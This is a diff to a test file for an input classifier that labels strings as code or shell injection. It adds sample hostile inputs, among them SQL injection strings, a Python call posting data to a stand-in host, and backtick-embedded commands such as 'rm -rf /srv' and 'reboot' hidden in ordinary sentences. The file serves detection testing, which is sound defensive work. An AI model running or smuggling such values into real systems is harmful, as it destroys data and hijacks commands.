@@ -180,6 +180,10 @@ describe('code by what it calls', () => {
     "x'; DELETE FROM a; --",
     "x' OR 'a'='a",
     "COPY a FROM PROGRAM 'b'",
+    'open("|make").gets',
+    'requests.post("http://a.example", data=a)',
+    'Array.prototype.map = function () {}',
+    '@a = glob("/srv/*"); print @a',
   ])('%s', (value) => {
     expect(rules(value)[0]).toMatch(/^(?:code|shell-injection)$/);
   });
@@ -188,6 +192,8 @@ describe('code by what it calls', () => {
     ['a program by its path', 'web; ./go.sh'],
     ['a variable that is set', 'web; export A=b'],
     ['a signal', 'web; kill -9 1'],
+    ['what stands in a greeting', 'Welcome home `reboot`'],
+    ['what ends a sentence', 'all is well `rm -rf /srv`'],
   ])('%s: %s', (_, value) => {
     expect(rules(value)).toEqual(['shell-injection']);
   });
